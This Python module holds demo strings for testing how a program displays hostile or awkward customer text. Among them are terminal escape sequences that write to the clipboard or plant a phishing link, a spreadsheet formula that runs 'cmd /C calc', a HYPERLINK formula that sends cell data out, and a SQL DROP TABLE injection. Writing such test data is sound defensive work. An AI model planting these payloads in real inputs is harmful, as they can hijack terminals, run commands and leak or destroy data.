"""Text that real accounts hold and careless programs choke on.

Customers type their own names, portal users fill in forms, and payment gateways answer in whatever they like,
so an account always has some records that break markup parsers, terminals, spreadsheets or column widths. The
demo data stores these strings raw; everything that shows them has to cope. Each key says which trap it is.

Byte values above 127 and control characters are written as escapes so that this file itself is harmless.
"""

from __future__ import annotations

from types import MappingProxyType

_ESC = "\x1b"

#: Trap name -> text. Every value is valid Unicode without NUL, so SQLite and JSON keep it exactly.
TEXTS = MappingProxyType(
    {
        # markup of Textual and Rich: closing tag without opening, style, action, link
        "markup_closing": "[/foo] Bracket & Sons",
        "markup_style": "[red]x[/red] [bold reverse]Loud Claims[/] GmbH",
        "markup_action": "[@click=app.quit]Click me[/] Ltd",
        "markup_broken": "[[nested] [link=https://example.com]\\[escaped]",
        # escape sequences: clipboard write, window title, hyperlink, clear screen, colour, report requests
        "osc_clipboard": f"Clip{_ESC}]52;c;ZWNobyBvd25lZA==\x07board Co",
        "osc_title": f"{_ESC}]0;PRODUCTION\x07Title Setters Inc",
        "osc_link": f"{_ESC}]8;;https://example.com/phish{_ESC}\\Pay here{_ESC}]8;;{_ESC}\\",
        "csi": f"{_ESC}[2J{_ESC}[H{_ESC}[31mRed Alert{_ESC}[0m{_ESC}[6n",
        "dcs": f"{_ESC}P$qm{_ESC}\\{_ESC}c Reset Works",
        # 8-bit C1 forms of the same (CSI, OSC, ST, NEL) and the C0 odds and ends
        "c1": "\x9b31mEight\x9d0;title\x9cBit\x85Controls\x90q\x9c",
        "c0": "Bell\x07 Back\x08\x08space\x0b\x0c\x7f\x0e\x0f\rReturn",
        # direction: override, isolate, marks
        "bidi_override": "Invoice \u202e0.001 \u202cDUE \u2066\u2067\u2069\u200f",
        # characters that take no cell, or that hide in a name
        "zero_width": "Pay\u200bpal\u200c\u200d Inc\u2060\ufeff\u00ad\u034f\U000e0041",
        # many marks on one letter
        "combining": "Z\u0335\u0321\u0322a\u0337\u0308\u0307l\u0336\u0316g\u0334\u0353o\u0338\u0301 Text Foundry",
        # families, flags, keycaps, skin tones, presentation selectors
        "emoji": (
            "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 Family \U0001f1e8\U0001f1e6 "
            "\U0001f44d\U0001f3fd 1\ufe0f\u20e3 \u2764\ufe0f\u200d\U0001f525 \u2708\ufe0e"
        ),
        # 10,000 characters, with and without places to break
        "long": "Ten Thousand Characters and Sons " + "x" * 4967 + " " + "\u6f22\u5b57" * 2498 + " ok",
        # spreadsheet formulas
        "formula": '=HYPERLINK("https://example.com?"&A1,"refund")',
        "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
        # a template of the service, kept as text in descriptions
        "twig": 'for {{ "now"|date("m/d/Y") }} to {{ "+1 month"|date("m/d/Y") }} {% if x %}{{ x }}{% endif %}',
        "lines": "First line\n  indented second\r\n\tthird, after a tab\n\n\nlast",
        # words that mean something elsewhere
        "null": "null",
        "true": "true",
        # the reserved characters of the where= grammar, and an end that looks like an escape
        "wire": "Acme: North, South \\ East\\, IS:NULL\\",
        "quotes": 'O\'Brien "Quoted" `Ticks` \u201cCurly\u201d; DROP TABLE customer; -- %s {0} ${x}',
        "percent": "100%25 _under_ %00 + plus &amp; <b>bold</b> %",
        "spaces": "  leading and trailing \u00a0\u3000 ",
    }
)
